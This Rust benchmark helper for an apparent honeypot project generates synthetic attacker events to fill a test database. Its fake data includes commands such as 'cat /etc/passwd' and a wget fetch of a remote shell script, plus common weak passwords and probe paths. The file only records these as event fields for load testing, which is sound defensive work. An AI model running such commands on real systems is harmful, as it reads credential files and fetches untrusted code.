//! The database under the load: made once through the calls the ingester makes, so that
//! every sum in it is what it would be, and kept below the target directory for the day.

use std::fs;
use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant, SystemTime};

use decnet::db::Db;
use decnet::db::checkpoint::Checkpoint;
use decnet::decoy::session::new_id;
use decnet::model::{Credential, Event, Flow, Proto, Severity, Stamp};
use rand::rngs::StdRng;
use rand::{RngExt, SeedableRng};
use sqlx::{ConnectOptions as _, Connection as _, Executor as _, SqliteConnection};

const DECKIES: u32 = 40;
/// Events per attacker.
const EACH: u64 = 50;
/// Events per transaction, as many as the ingester takes.
const BATCH: usize = 10_000;
/// Connections open at a time.
const OPEN: usize = 64;
/// How far back events go.
const SPAN: i64 = 7 * 24 * 3600 * 1_000_000;
/// After which the last 24 hours would be empty.
const STALE: Duration = Duration::from_secs(6 * 3600);
const WORDS: [&str; 6] = ["123456", "password", "admin", "toor", "qwerty", "letmein"];
const PATHS: [&str; 5] = ["/", "/admin", "/login", "/.env", "/wp-login.php"];
const COMMANDS: [&str; 4] = [
    "uname -a",
    "cat /etc/passwd",
    "wget http://198.18.9.9/x.sh",
    "id",
];

/// A state directory with a full database.
#[derive(Clone)]
pub(crate) struct Seeded {
    pub(crate) dir: PathBuf,
    pub(crate) rows: u64,
    pub(crate) begin: Stamp,
    pub(crate) end: Stamp,
}

impl Seeded {
    /// The directory of an earlier run, or a new one.
    pub(crate) async fn prepare(rows: u64) -> Self {
        let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("api-bench-{rows}"));
        let done = dir.join("complete");
        let kept = fs::read_to_string(&done).ok();
        let age = fs::metadata(&done).and_then(|m| m.modified()).ok();
        let age = age.and_then(|at| SystemTime::now().duration_since(at).ok());
        let end = kept.and_then(|text| text.trim().parse().ok());
        if let Some(end) = end
            && age.is_some_and(|age| age < STALE)
        {
            println!("database: kept from before, {}", dir.display());
            return Self::at(dir, rows, Stamp(end));
        }
        if dir.exists() {
            fs::remove_dir_all(&dir).unwrap();
        }
        let seeded = Self::at(dir, rows, Stamp::now());
        seeded.fill().await;
        fs::write(done, seeded.end.0.to_string()).unwrap();
        seeded
    }

    fn at(dir: PathBuf, rows: u64, end: Stamp) -> Self {
        let begin = Stamp(end.0 - SPAN);
        Self {
            dir,
            rows,
            begin,
            end,
        }
    }

    pub(crate) fn database(&self) -> PathBuf {
        self.dir.join("decnet.db")
    }

    pub(crate) fn attackers(&self) -> u32 {
        u32::try_from(self.rows / EACH).unwrap().max(1)
    }

    /// The address of the attacker with that number; low numbers did most.
    pub(crate) fn address(&self, number: u32) -> Ipv4Addr {
        Ipv4Addr::from(0x0b00_0000 + number % self.attackers() * 7)
    }

    async fn connect(&self) -> SqliteConnection {
        let options = sqlx::sqlite::SqliteConnectOptions::new().filename(self.database());
        options.connect().await.unwrap()
    }

    /// Takes away what makes filling slow and is quickly made in the end. Returns how.
    async fn drop_indexes(&self) -> Vec<String> {
        let mut connection = self.connect().await;
        let indexes: Vec<(String, String)> = sqlx::query_as(
            "select name, sql from sqlite_master where type = 'index' and sql is not null
                 and tbl_name in ('logs', 'attack_sessions', 'credentials')",
        )
        .fetch_all(&mut connection)
        .await
        .unwrap();
        for (name, _) in &indexes {
            let drop = sqlx::AssertSqlSafe(format!("drop index {name}"));
            connection.execute(drop).await.unwrap();
        }
        connection.close().await.unwrap();
        indexes.into_iter().map(|(_, sql)| sql).collect()
    }

    async fn fill(&self) {
        let db = Db::open_for_bulk(&self.database()).await.unwrap();
        let indexes = self.drop_indexes().await;
        let mut source = Source::new(self);
        let began = Instant::now();
        let (mut stored, mut told) = (0, 0);
        let mut storing = Duration::ZERO;
        while stored < self.rows {
            let count = usize::try_from(self.rows - stored)
                .unwrap_or(BATCH)
                .min(BATCH);
            let events: Vec<Event> = (0..count).map(|_| source.next()).collect();
            let at = Checkpoint {
                offset: stored,
                ..Checkpoint::default()
            };
            let batch = Instant::now();
            db.log_insert_batch(&events, "bench", &at, Stamp::now())
                .await
                .unwrap();
            storing += batch.elapsed();
            stored += count as u64;
            if (stored - told) * 5 >= self.rows || stored == self.rows {
                let rate = (stored - told) as f64 / storing.as_secs_f64();
                println!("stored {stored:>9} events, the last part at {rate:.0}/s");
                (told, storing) = (stored, Duration::ZERO);
            }
        }
        let mut connection = self.connect().await;
        for index in indexes {
            connection
                .execute(sqlx::AssertSqlSafe(index))
                .await
                .unwrap();
        }
        connection.close().await.unwrap();
        let indexing = Instant::now();
        while db.log_index_words().await.unwrap() > 0 {}
        let rate = self.rows as f64 / indexing.elapsed().as_secs_f64();
        println!("words of {} events indexed at {rate:.0}/s", self.rows);
        db.close().await;
        let size = fs::metadata(self.database()).unwrap().len();
        let took = began.elapsed().as_secs_f64();
        println!(
            "database: {} bytes per event, made in {took:.0} s",
            size / self.rows
        );
    }
}

/// Events of connections that overlap, in the order of time.
pub(crate) struct Source<'a> {
    seeded: &'a Seeded,
    rng: StdRng,
    made: u64,
    open: Vec<Connection>,
}

struct Connection {
    flow: Flow,
    decky: u32,
    service: u32,
    events: u32,
    left: u32,
}

impl<'a> Source<'a> {
    pub(crate) fn new(seeded: &'a Seeded) -> Self {
        let (rng, open) = (StdRng::seed_from_u64(7), Vec::new());
        Self {
            seeded,
            rng,
            made: 0,
            open,
        }
    }

    pub(crate) fn next(&mut self) -> Event {
        if self.open.len() < OPEN {
            let connection = self.connect();
            self.open.push(connection);
        }
        let at = self.rng.random_range(0..self.open.len());
        let event = self.event(at);
        if self.open[at].left == 0 {
            self.open.swap_remove(at);
        }
        event
    }

    fn connect(&mut self) -> Connection {
        let attackers = self.seeded.attackers();
        // Everybody comes; a few come again and again.
        let number = if self.rng.random_bool(0.4) {
            self.rng.random_range(0..attackers)
        } else {
            let rank = self.rng.random_range(0.0f64..1.0).powi(4) * f64::from(attackers);
            format!("{rank:.0}").parse().unwrap()
        };
        let service = self.rng.random_range(0..4);
        let events = self.rng.random_range(2..9);
        Connection {
            flow: Flow {
                src: (
                    self.seeded.address(number),
                    self.rng.random_range(1024..65535),
                )
                    .into(),
                dst: "127.77.0.1:6379".parse().unwrap(),
                proto: Proto::Tcp,
                session: new_id(),
            },
            decky: self.rng.random_range(1..=DECKIES),
            service,
            events,
            left: events,
        }
    }

    fn event(&mut self, at: usize) -> Event {
        let step = SPAN / i64::try_from(self.seeded.rows).unwrap();
        let ts = Stamp(self.seeded.begin.0 + i64::try_from(self.made).unwrap() * step);
        self.made += 1;
        let (made, rng) = (self.made, &mut self.rng);
        let connection = &mut self.open[at];
        connection.left -= 1;
        let first = connection.left + 1 == connection.events;
        let service = ["ssh", "ftp", "http", "redis"][connection.service as usize];
        let text = |k: &str, v: &str| (k.to_owned(), v.to_owned());
        let (kind, fields) = if first {
            ("connect", Vec::new())
        } else if connection.left == 0 {
            ("disconnect", vec![text("duration_ms", "1234")])
        } else if service == "http" {
            let path = PATHS[rng.random_range(0..PATHS.len())];
            let headers = "{\"Host\": \"www\", \"User-Agent\": \"python-requests/2.31.0\", \"Accept\": \"*/*\"}";
            let fields = vec![
                text("method", "GET"),
                text("path", path),
                text("headers", headers),
            ];
            ("request", fields)
        } else if made.is_multiple_of(500) {
            let file = format!("{:064x}", rng.random_range(0..2000));
            let fields = ["x.sh", "true", &file, "5120"];
            let names = ["filename", "stored", "sha256", "size"];
            let fields = names.into_iter().zip(fields);
            ("upload", fields.map(|(k, v)| text(k, v)).collect())
        } else if service == "redis" {
            // The rare word stands in one command of a hundred thousand.
            let odd = made % 100_000 < 4;
            let told = COMMANDS[rng.random_range(0..COMMANDS.len())];
            (
                "command",
                vec![text("command", if odd { "echo quagga" } else { told })],
            )
        } else {
            // Most try what everybody tries.
            let (word, most) = (WORDS[rng.random_range(0..WORDS.len())], 2000.0);
            let tail = rng.random_range(0.0f64..1.0).powi(3) * most;
            let secret = format!("{word}{tail:.0}");
            let user = ["root", "admin", "test"][rng.random_range(0..3)];
            let mut fields = Credential::plaintext(Some(user), secret.as_bytes()).fields();
            fields.push(text("outcome", "failure"));
            ("auth_attempt", fields)
        };
        Event {
            eid: new_id(),
            ts,
            severity: Severity::Info,
            decky: format!("decky-{:02}", connection.decky),
            service: service.to_owned(),
            kind: kind.to_owned(),
            flow: Some(connection.flow.clone()),
            fields,
            msg: String::new(),
        }
    }
}
